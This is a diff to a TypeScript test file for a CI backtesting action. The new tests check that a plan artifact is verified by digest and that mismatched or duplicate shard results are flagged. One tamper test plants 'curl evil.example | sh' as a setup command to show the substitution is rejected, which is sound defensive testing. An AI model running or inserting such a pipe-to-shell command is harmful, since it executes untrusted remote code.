@@ -8,6 +8,9 @@ import { silentLogger } from '../../src/core/logger.ts'
 import { privilegesOf, refusePrivileges } from '../../src/entrypoints/action/privileges.ts'
 import { locateShards } from '../../src/entrypoints/action/shard-folders.ts'
 import { tasksArtifact } from '../../src/entrypoints/action/shard-names.ts'
+import { DEFAULT_CONFIG } from '../../src/config/config.ts'
+import { planDigest, readPlan, writePlan } from '../../src/entrypoints/action/plan-file.ts'
+import { emptyPlan } from '../../src/entrypoints/action/planning.ts'
 import { packIntoShards } from '../../src/entrypoints/action/shards.ts'
 import { readPurpose } from '../../src/entrypoints/action/targets.ts'
 import type { Surroundings } from '../../src/entrypoints/action/surroundings.ts'
@@ -128,9 +131,30 @@ test('names of artifacts hold no character that artifacts forbid', () => {
   )
 })
 
+describe('the plan as an artifact', () => {
+  const plan = emptyPlan({ owner: 'acme', repo: 'tool' }, DEFAULT_CONFIG)
+  const written = async (): Promise<{ file: string; digest: string }> => {
+    const file = join(mkdtempSync(join(tmpdir(), 'backtest-plan-')), 'plan.json')
+    return { file, digest: await writePlan(file, plan) }
+  }
+
+  test('is read back when it is the one that was written', async () => {
+    const { file, digest } = await written()
+    expect(await readPlan(file, digest)).toEqual(plan)
+    expect(planDigest(await readPlan(file, undefined))).toBe(digest)
+  })
+
+  test('another one in its place is refused, though it is a plan', async () => {
+    const { file, digest } = await written()
+    await writePlan(file, { ...plan, config: { ...plan.config, 'setup-command': 'curl evil.example | sh' } })
+    await expect(readPlan(file, digest)).rejects.toThrow(/is not what the plan job wrote/)
+  })
+})
+
 describe('locateShards', () => {
-  const shardFile = (shard: string): string =>
-    JSON.stringify({ schema: 'backtest/shard@1', shard, finished: [], failed: [] })
+  const PLAN = 'a'.repeat(64)
+  const shardFile = (shard: string, plan = PLAN): string =>
+    JSON.stringify({ schema: 'backtest/shard@1', shard, plan_sha256: plan, finished: [], failed: [] })
   const laidOut = (files: Readonly<Record<string, string>>): string => {
     const root = mkdtempSync(join(tmpdir(), 'backtest-shards-'))
     for (const [path, text] of Object.entries(files)) {
@@ -146,7 +170,7 @@ describe('locateShards', () => {
       'backtest-results-s2/shard.json': shardFile('s1'),
       'backtest-results-s9/x': '',
     })
-    const { folders, problems } = await locateShards(root, ['s1', 's2', 's3'])
+    const { folders, problems } = await locateShards(root, ['s1', 's2', 's3'], PLAN)
     expect([...folders]).toEqual([
       ['s1', join(root, 'backtest-results-s1')],
       ['s2', join(root, 'backtest-results-s2')],
@@ -154,9 +178,23 @@ describe('locateShards', () => {
     expect(problems).toEqual(['nobody planned "backtest-results-s9"'])
   })
 
+  test('one that came twice, and one of another plan, are named', async () => {
+    const root = laidOut({
+      'backtest-results-s1/shard.json': shardFile('s1'),
+      'backtest-results-s1-attempt-2/shard.json': shardFile('s1'),
+      'backtest-results-s2/shard.json': shardFile('s2', 'b'.repeat(64)),
+    })
+    const { folders, problems } = await locateShards(root, ['s1', 's2'], PLAN)
+    expect([...folders.keys()]).toEqual(['s1'])
+    expect(problems).toEqual([
+      '"backtest-results-s1-attempt-2" is a second result of shard s1; the artifact named after the shard counts',
+      'the results of shard s2 are of another plan: they came late, or from another run',
+    ])
+  })
+
   test('a single one lies in the folder itself', async () => {
     const root = laidOut({ 'shard.json': shardFile('s2'), 'c3/curation.json': '{}' })
-    expect([...(await locateShards(root, ['s1', 's2'])).folders]).toEqual([['s2', root]])
+    expect([...(await locateShards(root, ['s1', 's2'], PLAN)).folders]).toEqual([['s2', root]])
   })
 
   test.each([
@@ -164,7 +202,7 @@ describe('locateShards', () => {
     [{ 'shard.json': '{' }, 'the results folder holds no shard'],
     [{}, 'no results were downloaded'],
   ])('%j', async (files, problem) => {
-    const { folders, problems } = await locateShards(laidOut(files), ['s1'])
+    const { folders, problems } = await locateShards(laidOut(files), ['s1'], PLAN)
     expect(folders.size).toBe(0)
     expect(problems).toEqual([problem])
   })
